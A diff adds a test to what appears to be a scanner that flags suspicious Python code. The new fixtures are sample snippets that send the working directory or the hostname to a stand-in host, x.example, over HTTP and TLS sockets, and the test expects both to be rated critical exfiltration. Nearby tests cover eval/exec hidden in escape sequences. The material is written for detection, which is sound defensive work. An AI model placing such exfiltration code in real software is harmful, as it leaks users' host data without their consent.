@@ -370,6 +370,16 @@ TEST(Behaviour, WholeEnvironmentSentFromAMethod) {
   EXPECT_EQ(Find(fs, "exfiltration")->severity, Severity::kMedium);
 }
 
+TEST(Behaviour, HostFactsThroughFunctionReferencesAndTlsSockets) {
+  ExpectFinding("import os, json, urllib.request\ndef t(f):\n    return f()\n"
+                "d = json.dumps({'c': t(os.getcwd)})\nurllib.request.urlopen('https://x.example/?' + d)\n",
+                "exfiltration", Severity::kCritical);
+  ExpectFinding("import ssl, socket\nctx = ssl.SSLContext(ssl.PROTOCOL_TLSv1_2)\n"
+                "s = ctx.wrap_socket(socket.socket(), server_hostname='x.example')\n"
+                "s.send(socket.gethostname().encode())\n",
+                "exfiltration", Severity::kCritical);
+}
+
 TEST(Behaviour, CodeSpeltInEscapes) {
   ExpectFinding("e = eval(\"\\145\\166\\141\\x6c\")\n", "exec-decoded", Severity::kCritical);
   ExpectFinding("def f():\n    exec('\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29')\n",
